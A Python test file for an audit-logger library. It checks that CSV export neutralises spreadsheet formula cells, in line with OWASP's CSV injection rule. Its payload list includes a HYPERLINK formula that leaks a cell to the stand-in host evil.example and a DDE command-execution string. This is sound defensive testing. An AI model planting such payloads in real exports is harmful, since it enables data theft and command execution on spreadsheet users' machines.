"""Exports: CSV cells that a spreadsheet would run as a formula are neutralised (OWASP's CSV
injection rule), on a real log exported through the CLI."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner

from maestro_audit_logger import Actor, AuditLogger, Source, Target
from maestro_audit_logger.cli import main

# Cells starting with = + - @ tab or carriage return are formulas (or become one) in Excel,
# LibreOffice and Google Sheets.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]


def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    log = tmp_path / "audit.jsonl"
    with AuditLogger(log, service="svc") as audit:
        for i, payload in enumerate(PAYLOADS):
            audit.record(
                "invoice.update",
                actor=Actor(f"u-{i}", name=payload),
                targets=Target("invoice", "1"),
                source=Source(user_agent=payload),
                tenant=payload,
                request_id=payload,
                reason=payload,
            )
        audit.record("invoice.update", actor=Actor("u-plain", name="Ada Lovelace"), tenant="acme")
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(main, ["export", str(log), "--format", "csv", "-o", str(out)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    for row, payload in zip(rows, PAYLOADS, strict=False):
        for column in ("actor_name", "user_agent", "tenant", "request_id", "reason"):
            assert row[column] == "'" + payload, (column, row[column])
    plain = rows[-1]
    assert (plain["actor_name"], plain["tenant"], plain["actor_id"]) == ("Ada Lovelace", "acme", "u-plain")
    assert plain["seq"] == str(len(PAYLOADS))  # numbers stay numbers
